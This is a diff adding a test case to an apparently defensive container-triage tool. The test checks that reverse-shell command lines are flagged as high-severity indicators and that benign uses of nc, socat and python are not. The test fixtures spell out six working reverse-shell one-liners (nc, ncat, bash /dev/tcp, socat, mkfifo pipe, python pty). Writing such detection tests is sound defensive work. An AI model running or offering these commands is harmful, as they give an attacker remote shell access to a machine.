@@ -72,3 +72,25 @@ t.test('how long the container was frozen, in milliseconds, as information', asy
   t.same(frozen, { id: 'frozen-time', severity: 'info', summary: 'the container was frozen for 140.2 ms while it was checkpointed', evidence: { frozenMs: 140.2, freezingMs: 0.6 } });
   t.same(triageIndicators(inspection([])), [], 'nothing to say about an empty inspection');
 });
+
+t.test('a command line that opens a reverse shell is an indicator; ordinary use of the same tools is not', async (t) => {
+  const sh = (pid: number, script: string) => proc(pid, 'sh', { cmdline: ['/bin/sh', '-c', script] });
+  const hits = [
+    sh(20, 'sleep 1; nc 127.0.0.1 4444 -e /bin/sh & wait'),
+    proc(21, 'ncat', { cmdline: ['ncat', '10.0.0.9', '9001', '-e', '/bin/bash'] }),
+    sh(22, 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'),
+    proc(23, 'socat', { cmdline: ['socat', 'tcp:203.0.113.5:443', 'exec:/bin/sh,pty,stderr'] }),
+    sh(24, 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 1234 > /tmp/f'),
+    proc(25, 'python3', { cmdline: ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",80));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'] }),
+  ];
+  const misses = [
+    proc(30, 'nc', { cmdline: ['nc', '-z', 'db', '5432'] }),
+    proc(31, 'nc', { cmdline: ['nc', '-l', '-p', '8080'] }),
+    sh(32, 'echo /dev/tcp is a bash feature; cat README'),
+    proc(33, 'socat', { cmdline: ['socat', 'tcp-listen:80,fork', 'tcp:backend:8080'] }),
+    proc(34, 'python3', { cmdline: ['python3', '-m', 'http.server'] }),
+  ];
+  const found = triageIndicators(inspection([...hits, ...misses])).filter((x) => x.id === 'reverse-shell-cmdline');
+  t.same(found.map((x) => x.pid), [20, 21, 22, 23, 24, 25]);
+  t.match(found[0], { severity: 'high', summary: /^sh \(pid 20\) runs a reverse-shell command \(nc 127\.0\.0\.1 4444 -e \/bin\/sh\)$/, evidence: { match: 'nc 127.0.0.1 4444 -e /bin/sh' } });
+});
